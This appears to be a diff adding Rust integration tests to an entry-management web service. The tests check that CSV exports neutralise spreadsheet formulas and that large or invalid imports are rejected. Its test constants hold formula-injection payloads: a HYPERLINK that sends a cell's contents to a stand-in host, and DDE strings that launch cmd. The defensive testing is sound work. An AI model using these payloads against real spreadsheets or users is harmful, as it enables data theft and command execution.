@@ -200,3 +200,163 @@ fn entries_are_imported_and_edited_on_the_page_in_a_real_browser() {
         15
     );
 }
+
+/// Splits CSV text (RFC 4180, commas, CRLF lines, a byte order mark
+/// first or not) into rows of values, unquoted.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
+    let (mut rows, mut row, mut value) = (Vec::new(), Vec::new(), String::new());
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                value.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => value.push(c),
+            (false, '"') if value.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut value)),
+            (false, '\r') => {
+                assert_eq!(chars.next(), Some('\n'), "lines end in CRLF");
+                row.push(std::mem::take(&mut value));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => value.push(c),
+        }
+    }
+    assert!(value.is_empty() && row.is_empty(), "the last line ends too");
+    rows
+}
+
+/// Whether a spreadsheet opening the file would take `value` for a
+/// formula: it starts with `=`, `+`, `-`, `@`, a tab or a carriage return
+/// and is not a plain number.
+fn runs(value: &str) -> bool {
+    let number = value.strip_prefix('-').unwrap_or(value);
+    let number = !number.is_empty() && number.bytes().all(|b| b.is_ascii_digit());
+    value
+        .trim_start_matches(' ')
+        .starts_with(['=', '+', '-', '@', '\t', '\r'])
+        && !number
+}
+
+const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")";
+const DDE: &str = "+cmd|' /C calc'!A0";
+const DDE_MINUS: &str = "-2+3+cmd|' /C calc'!A0";
+const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+#[test]
+fn the_centres_csv_files_hold_names_and_regions_as_data_not_formulas() {
+    let dir = temp_dir("formulas");
+    let web = free_port();
+    let mut c = Centre::start(&config(&dir, web), web);
+    let (cookie, _) = c.login(SECRETARY_PIN, "");
+    for (name, region, team) in [
+        (HYPERLINK, DDE, AT),
+        (DDE_MINUS, "@Tula", "=1+1"),
+    ] {
+        let add = json!({ "entry": { "name": name, "class": "B2", "sex": "F", "region": region, "team": team } });
+        let (status, v) = c.post(Some(&cookie), "/api/entries/add", &add);
+        assert_eq!(status, 200, "{v}");
+    }
+    let before = c.get("/api/entries");
+    assert_eq!(entry(&before, HYPERLINK).unwrap()["region"], DDE);
+
+    // Both files, read with no login: no cell a spreadsheet would run.
+    for path in ["/entries.csv", "/results.csv"] {
+        let r = c.http.request("GET", path, &[], b"").unwrap();
+        assert_eq!(r.status, 200, "{path}");
+        let text = String::from_utf8(r.body).unwrap();
+        let rows = csv_rows(&text);
+        for row in &rows {
+            for value in row {
+                assert!(!runs(value), "{path}: {value:?} in {row:?}");
+            }
+        }
+        for typed in [HYPERLINK, DDE, AT, DDE_MINUS, "@Tula", "=1+1"] {
+            let marked = format!("'{typed}");
+            assert!(
+                rows.iter().any(|r| r.contains(&marked)),
+                "{path} has {marked:?}: {text}"
+            );
+        }
+    }
+    let entries = c.http.request("GET", "/entries.csv", &[], b"").unwrap().body;
+    let text = String::from_utf8(entries).unwrap();
+    // The handicap, a number the centre writes, is still one.
+    assert!(text.contains("\r\nSergei Volkov,B2,M,Tula,,8,\r\n"), "{text}");
+
+    // The file imported back: the same entries, as they were typed.
+    let (status, v) = c.post_as(
+        Some(&cookie),
+        "/api/entries/import",
+        "text/csv",
+        text.as_bytes(),
+    );
+    assert_eq!(status, 200, "{v}");
+    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
+}
+
+/// The peak of the process's resident memory in kB (`VmHWM`).
+fn peak_kb(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
+    line.split_whitespace().nth(1).unwrap().parse().unwrap()
+}
+
+#[test]
+fn a_mebibyte_of_bad_rows_answers_the_first_hundred_problems_and_how_many_more() {
+    let dir = temp_dir("all-bad");
+    let web = free_port();
+    let mut c = Centre::start(&config(&dir, web), web);
+    let (cookie, _) = c.login(SECRETARY_PIN, "");
+    let before = c.get("/api/entries");
+
+    // A 1 MiB file whose every row has a wrong class and a wrong sex.
+    let head = "name,class,sex,region\r\n";
+    let row = "Anna Kuznetsova,B9,Q,Moscow\r\n";
+    let rows = ((1 << 20) - head.len()) / row.len();
+    let file = head.to_owned() + &row.repeat(rows);
+    let (status, v) = c.post_as(
+        Some(&cookie),
+        "/api/entries/import",
+        "text/csv",
+        file.as_bytes(),
+    );
+    assert_eq!(status, 400, "{}", v.to_string().len());
+    let problems = v["problems"].as_array().unwrap();
+    assert_eq!(problems.len(), 100);
+    assert_eq!(v["more_problems"], 2 * rows - 100);
+    assert_eq!(problems[0]["row"], 2);
+    assert_eq!(problems[0]["column"], 2);
+    assert_eq!(problems[99]["row"], 51);
+    let said = v["error"].as_str().unwrap();
+    assert!(
+        said.ends_with(&format!(
+            "… and {} more problems, not listed: mend these and import again",
+            2 * rows - 100
+        )),
+        "{said}"
+    );
+    // Nothing already recorded is lost, and the centre's memory stays
+    // small (it was 900 MB here, reading the same file).
+    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
+    let peak = peak_kb(c.child.id());
+    assert!(peak < 150 * 1024, "the centre's peak: {peak} kB");
+
+    // A file over 1 MiB: said, not read.
+    let big = file + &row.repeat(100);
+    let (status, v) = c.post_as(
+        Some(&cookie),
+        "/api/entries/import",
+        "text/csv",
+        big.as_bytes(),
+    );
+    assert_eq!(status, 400, "{v}");
+    assert_eq!(
+        v["error"],
+        format!("the file is {} bytes: at most 1048576 (1 MiB)", big.len())
+    );
+    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
+}
